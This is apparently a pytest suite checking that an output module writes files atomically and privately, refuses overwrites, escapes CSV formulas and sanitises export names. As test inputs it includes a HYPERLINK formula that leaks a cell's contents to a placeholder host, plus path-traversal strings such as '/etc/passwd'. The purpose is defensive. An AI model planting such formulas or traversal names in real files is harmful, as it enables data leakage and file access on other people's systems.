"""backfill.outputs: files appear whole and private, never overwrite when asked, cells and names are safe."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from backfill.outputs import (
    SafeCsvWriter,
    export_name,
    open_output,
    plain,
    private_folder,
    safe_cell,
    write_output,
)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_an_interrupted_write_leaves_the_old_file_and_no_partial_one(tmp_path: Path) -> None:
    target = tmp_path / "decisions.csv"
    target.write_text("the previous, complete file\n")

    def interrupted() -> None:
        with open_output(target) as handle:
            handle.write("half of the new ")
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        interrupted()
    assert target.read_text() == "the previous, complete file\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["decisions.csv"]


def test_nothing_appears_under_the_name_before_the_write_ends(tmp_path: Path) -> None:
    target = tmp_path / "audit.json"
    with open_output(target) as handle:
        handle.write("{}")
        assert not target.exists()
    assert target.read_text() == "{}"


def test_files_are_0600_and_the_folders_made_for_them_0700(tmp_path: Path) -> None:
    old_umask = os.umask(0o022)
    try:
        target = write_output(tmp_path / "new" / "deeper" / "doc.xml", b"<x/>")
    finally:
        os.umask(old_umask)
    assert _mode(target) == 0o600
    assert _mode(tmp_path / "new") == 0o700
    assert _mode(tmp_path / "new" / "deeper") == 0o700


def test_replacing_a_world_readable_file_makes_it_private(tmp_path: Path) -> None:
    target = tmp_path / "worklist.csv"
    target.write_text("old")
    target.chmod(0o644)
    write_output(target, "new")
    assert _mode(target) == 0o600
    assert target.read_text() == "new"


def test_never_overwrite_refuses_an_existing_file_and_leaves_it(tmp_path: Path) -> None:
    target = tmp_path / "D1.xml"
    write_output(target, b"first", overwrite=False)
    with pytest.raises(FileExistsError):
        write_output(target, b"second", overwrite=False)
    assert target.read_bytes() == b"first"
    assert [p.name for p in tmp_path.iterdir()] == ["D1.xml"]


def test_never_overwrite_loses_a_race_cleanly(tmp_path: Path) -> None:
    target = tmp_path / "D1.xml"

    def racing() -> None:
        with open_output(target, "wb", overwrite=False) as handle:
            handle.write(b"mine")
            target.write_bytes(b"someone else's, written meanwhile")

    with pytest.raises(FileExistsError):
        racing()
    assert target.read_bytes() == b"someone else's, written meanwhile"
    assert [p.name for p in tmp_path.iterdir()] == ["D1.xml"]


def test_private_folder_leaves_an_existing_folder_alone(tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    private_folder(tmp_path)
    assert _mode(tmp_path) == 0o755


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x.example/?"&A1,"click")', "=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_a_formula_is_written_as_text(cell: str) -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow([cell, "LDL", 3])
    row = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert row == ["'" + cell, "LDL", "3"]


@given(st.text())
def test_no_cell_starts_like_a_formula_and_the_text_is_kept(value: str) -> None:
    cell = safe_cell(value)
    assert isinstance(cell, str)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (value, "'" + value)


def test_numbers_and_none_pass() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(None) == ""


def test_export_names_differ_for_ids_that_sanitise_alike() -> None:
    assert export_name("a/b") != export_name("a_b")
    assert export_name("a/b").startswith("a_b-")


@pytest.mark.parametrize("identifier", ["../../..", "..", ".hidden", "/etc/passwd", "", "a\x00b"])
def test_export_names_stay_in_their_folder_and_visible(identifier: str) -> None:
    name = export_name(identifier)
    assert "/" not in name
    assert not name.startswith(".")
    assert re.fullmatch(r"[A-Za-z0-9._-]+-[0-9a-f]{8}\.xml", name)


@given(st.text(), st.text())
def test_export_names_are_unique_per_id(first: str, second: str) -> None:
    if first != second:
        assert export_name(first) != export_name(second)


def test_data_is_printed_as_text_without_control_characters() -> None:
    console = Console(file=io.StringIO(), force_terminal=False, width=200)
    console.print(plain("[/nope] [bold red]x[/] \x1b[31mred\x1b[0m \x07bell"))
    assert console.file.getvalue() == "[/nope] [bold red]x[/] [31mred[0m bell\n"  # type: ignore[attr-defined]


@given(st.lists(st.text(), min_size=1, max_size=4), st.lists(st.text(), min_size=1, max_size=4))
def test_any_cells_read_back_as_written_row_by_row(first: list[str], second: list[str]) -> None:
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer)
    writer.writerow(first)
    writer.writerow(second)
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows == [[str(safe_cell(c)) for c in first], [str(safe_cell(c)) for c in second]]
